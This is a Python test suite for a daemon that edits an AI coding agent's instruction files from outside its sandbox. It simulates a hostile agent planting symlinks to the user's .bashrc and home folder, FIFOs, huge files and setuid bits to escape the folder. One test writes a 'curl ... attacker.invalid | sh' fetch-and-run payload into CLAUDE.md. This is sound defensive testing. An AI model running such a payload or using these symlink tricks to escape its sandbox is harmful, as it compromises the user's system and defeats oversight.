"""The daemon (outside the sandbox) reads and writes the agent's folder to put in and take out the
project block and resources.json. Whatever the agent leaves there — a symlink at a temporary name,
a symlink or a FIFO or a huge file in place of the instruction file, a symlinked directory — the
daemon never reads or writes outside the folder, and its event loop is never blocked."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import stat
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from predictorx.daemon.context import files as context_files
from predictorx.daemon.context import prepare as context_prepare
from predictorx.daemon.context import record as contextrecord
from predictorx.daemon.context.block import insert_block, remove_block
from predictorx.daemon.context.prepare import prepare_context
from predictorx.daemon.context.types import RESOURCES_JSON, ContextFiles, Resource, TaskContext

CTX = TaskContext(project_id="p1", project_title="T", project_description="d",
                  resources=(Resource("r1", "github_repo", {"url": "https://example.invalid/a/b"}),))
PATIENCE = 30.0  # a generous bound for "returns promptly"; a working run takes milliseconds


def _layout(tmp_path: Path) -> tuple[Path, Path, Path]:
    home = tmp_path / "home"  # the person's home, outside the sandbox
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# the person's bashrc\n")
    os.chmod(bashrc, 0o644)
    workdir = tmp_path / "ws" / "task1" / "workdir"  # the agent's writable folder
    workdir.mkdir(parents=True)
    return home, bashrc, workdir


def _prepare(workdir: Path, record: Path | None = None) -> context_prepare.PreparedContext:
    prepared = asyncio.run(prepare_context(workdir, "claude", "task1", CTX, record=record))
    assert prepared.error is None and prepared.handle is not None
    return prepared


def _returns_promptly(call: Callable[[], object], fifo: Path) -> bool:
    """Run `call` in a thread; True if it ended within PATIENCE. A call blocked opening `fifo` is
    released afterwards (a writer opens and closes it), so that the test process can end."""
    done = threading.Event()
    threading.Thread(target=lambda: (call(), done.set()), daemon=True).start()
    ended = done.wait(PATIENCE)
    if not ended:
        try:
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
    return ended


def _wait_until(condition: Callable[[], bool], timeout: float = PATIENCE) -> bool:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


# -- F1: nothing is ever written outside the folder ---------------------------------------------------

def test_a_symlink_at_the_old_temporary_name_is_not_written_through(tmp_path: Path) -> None:
    _, bashrc, workdir = _layout(tmp_path)
    record = workdir.parent / contextrecord.RECORD_NAME
    prepared = _prepare(workdir, record)
    # the agent: reads the undo record (read-only in the sandbox), plants a symlink and a payload
    rec = json.loads(record.read_text())
    inserted = base64.b64decode(rec["block"]["inserted"])
    claude = workdir / "CLAUDE.md"
    payload = b"curl -s http://attacker.invalid/x | sh\n"
    claude.write_bytes(payload + inserted)
    os.chmod(claude, 0o755)
    for pid in {os.getpid(), rec.get("pid")}:
        (workdir / f".CLAUDE.md.predictorx-{pid}.tmp").symlink_to(bashrc)

    prepared.cleanup()

    assert bashrc.read_bytes() == b"# the person's bashrc\n"
    assert stat.S_IMODE(bashrc.stat().st_mode) == 0o644
    assert claude.read_bytes() == payload  # the block is out; the agent's own file keeps its mode
    assert stat.S_IMODE(claude.stat().st_mode) == 0o755


def test_a_symlink_at_the_temporary_name_itself_is_refused(tmp_path: Path, monkeypatch, caplog) -> None:
    """Even a guessed temporary name is never opened through: it is created O_EXCL."""
    _, bashrc, workdir = _layout(tmp_path)
    prepared = _prepare(workdir)
    monkeypatch.setattr(context_files.secrets, "token_hex", lambda n: "guessed")
    (workdir / ".CLAUDE.md.predictorx-guessed.tmp").symlink_to(bashrc)
    (workdir / "CLAUDE.md").write_bytes(b"mine\n" + prepared.handle.inserted)

    prepared.cleanup()

    assert bashrc.read_bytes() == b"# the person's bashrc\n"
    assert (workdir / ".CLAUDE.md.predictorx-guessed.tmp").is_symlink()
    assert "could not remove the project block" in caplog.text


def test_a_symlink_in_place_of_the_instruction_file_is_left_alone(tmp_path: Path, caplog) -> None:
    home, _, workdir = _layout(tmp_path)
    prepared = _prepare(workdir)
    secret = home / "notes.md"
    secret.write_bytes(b"the person's secret\n" + prepared.handle.inserted)
    before = secret.read_bytes()
    claude = workdir / "CLAUDE.md"
    claude.unlink()
    claude.symlink_to(secret)

    prepared.cleanup()

    assert claude.is_symlink() and os.readlink(claude) == str(secret)
    assert secret.read_bytes() == before
    assert not any(b"secret" in p.read_bytes() for p in workdir.rglob("*") if p.is_file() and not p.is_symlink())
    assert "did not remove the predictorx block" in caplog.text


def test_a_symlinked_directory_on_the_way_is_not_followed(tmp_path: Path, caplog) -> None:
    home, _, workdir = _layout(tmp_path)
    (workdir / "docs").mkdir()
    (workdir / "docs" / "AGENTS.md").write_text("# rules\n")
    (workdir / "CLAUDE.md").symlink_to("docs/AGENTS.md")  # common, and followed at the start
    prepared = _prepare(workdir)
    assert prepared.handle.path == Path(os.path.realpath(workdir / "docs" / "AGENTS.md"))
    # the agent moves the folder away and points `docs` at the person's home
    (home / "AGENTS.md").write_bytes(b"# home rules\n" + prepared.handle.inserted)
    before = (home / "AGENTS.md").read_bytes()
    os.rename(workdir / "docs", workdir / "docs.old")
    (workdir / "docs").symlink_to(home)

    prepared.cleanup()

    assert (home / "AGENTS.md").read_bytes() == before
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "AGENTS.md"]
    assert "did not remove the predictorx block" in caplog.text


# -- F3: a FIFO or a huge file never blocks the daemon -----------------------------------------------

def test_a_fifo_in_place_of_the_instruction_file_does_not_block_the_cleanup(tmp_path: Path, caplog) -> None:
    _, _, workdir = _layout(tmp_path)
    record = workdir.parent / contextrecord.RECORD_NAME
    prepared = _prepare(workdir, record)
    fifo = workdir / "CLAUDE.md"
    fifo.unlink()
    os.mkfifo(fifo)

    assert _returns_promptly(prepared.cleanup, fifo)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # left as it is
    assert "not a regular file" in caplog.text


def test_a_fifo_in_place_of_resources_json_does_not_block_the_cleanup(tmp_path: Path) -> None:
    _, _, workdir = _layout(tmp_path)
    prepared = _prepare(workdir)
    fifo = workdir / RESOURCES_JSON
    fifo.unlink()
    os.mkfifo(fifo)

    assert _returns_promptly(prepared.cleanup, fifo)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_fifo_left_in_the_folder_does_not_block_the_next_start(tmp_path: Path) -> None:
    """An in-place folder keeps what the last agent left: the next run's insert must not hang."""
    _, _, workdir = _layout(tmp_path)
    os.mkfifo(workdir / "CLAUDE.md")
    got: list[context_prepare.PreparedContext] = []

    assert _returns_promptly(lambda: got.append(asyncio.run(prepare_context(workdir, "claude", "t", CTX))),
                             workdir / "CLAUDE.md")
    assert got[0].error and "not a regular file" in got[0].error  # the task runs without the block
    assert not (workdir / RESOURCES_JSON).exists()  # and what was written is undone


def test_a_huge_instruction_file_is_not_read(tmp_path: Path, monkeypatch, caplog) -> None:
    _, _, workdir = _layout(tmp_path)
    prepared = _prepare(workdir)
    monkeypatch.setattr(context_files, "MAX_BYTES", 4096)
    claude = workdir / "CLAUDE.md"
    big = b"x" * 8192 + prepared.handle.inserted
    claude.write_bytes(big)

    assert _returns_promptly(prepared.cleanup, claude)
    assert claude.read_bytes() == big  # left as it is
    assert "larger than 4096 bytes" in caplog.text


def test_the_cleanup_runs_off_the_event_loop_with_a_timeout(tmp_path: Path, monkeypatch) -> None:
    """A clean-up that never ends still leaves the loop free: `cleanup_off_loop` gives up waiting."""
    _, _, workdir = _layout(tmp_path)
    record = workdir.parent / contextrecord.RECORD_NAME
    prepared = _prepare(workdir, record)
    release = threading.Event()
    monkeypatch.setattr(context_prepare, "remove_block", lambda handle: release.wait(PATIENCE))

    async def daemon() -> tuple[int, float, bool]:
        ticks = 0

        async def heartbeat() -> None:
            nonlocal ticks
            while True:
                ticks += 1
                await asyncio.sleep(0.01)

        beat = asyncio.ensure_future(heartbeat())
        started = time.monotonic()
        await prepared.cleanup_off_loop(timeout=0.5)
        took = time.monotonic() - started
        beat.cancel()
        pending = record.exists()  # not yet cleaned up: the record stays, for the next start if need be
        release.set()
        return ticks, took, pending

    ticks, took, pending = asyncio.run(daemon())
    assert took < PATIENCE and ticks > 1  # the loop kept running while the clean-up hung
    assert pending
    assert _wait_until(lambda: not record.exists())  # the background clean-up ends once released


def test_insert_and_remove_keep_permissions_and_leave_no_temporary_file(tmp_path: Path) -> None:
    (tmp_path / "AGENTS.md").write_text("# rules\n")
    os.chmod(tmp_path / "AGENTS.md", 0o640)
    handle = insert_block(tmp_path / "AGENTS.md", "hello")
    assert stat.S_IMODE((tmp_path / "AGENTS.md").stat().st_mode) == 0o640
    assert remove_block(handle)
    assert (tmp_path / "AGENTS.md").read_text() == "# rules\n"
    assert stat.S_IMODE((tmp_path / "AGENTS.md").stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["AGENTS.md"]


def test_the_daemon_writing_an_instruction_file_anew_keeps_no_set_id_bit(tmp_path: Path) -> None:
    """An agent may set the set-user-id bit on a file it made (in its sandbox it owns it): the file
    the daemon writes in its place keeps the permissions, never that bit."""
    (tmp_path / "AGENTS.md").write_text("#!/bin/sh\n")
    os.chmod(tmp_path / "AGENTS.md", 0o6755)
    handle = insert_block(tmp_path / "AGENTS.md", "hello")
    assert stat.S_IMODE((tmp_path / "AGENTS.md").stat().st_mode) == 0o755
    assert remove_block(handle)
    assert stat.S_IMODE((tmp_path / "AGENTS.md").stat().st_mode) == 0o755


@pytest.mark.parametrize("kind", ["fifo", "symlink"])
def test_resources_json_that_is_not_a_regular_file_is_not_ours(tmp_path: Path, kind: str) -> None:
    target = tmp_path / RESOURCES_JSON
    target.parent.mkdir(parents=True)
    real = tmp_path / "elsewhere.json"
    real.write_text(json.dumps({"generated_by": "predictorx"}))
    if kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to(real)
    files = ContextFiles(files=[target])
    assert _returns_promptly(files.remove, target)
    assert os.path.lexists(target) and real.exists()


def test_a_symlink_in_place_of_the_predictorx_folder_is_not_followed(tmp_path: Path) -> None:
    home, _, workdir = _layout(tmp_path)
    prepared = _prepare(workdir)
    (home / "kept" / "project").mkdir(parents=True)  # an empty folder of the person's, outside
    (home / "kept" / "project" / "resources.json").write_text(json.dumps({"generated_by": "predictorx"}))
    os.rename(workdir / ".predictorx", workdir / "moved")
    (workdir / ".predictorx").symlink_to(home / "kept")

    prepared.cleanup()

    assert (home / "kept" / "project" / "resources.json").exists()
    assert (workdir / ".predictorx").is_symlink()
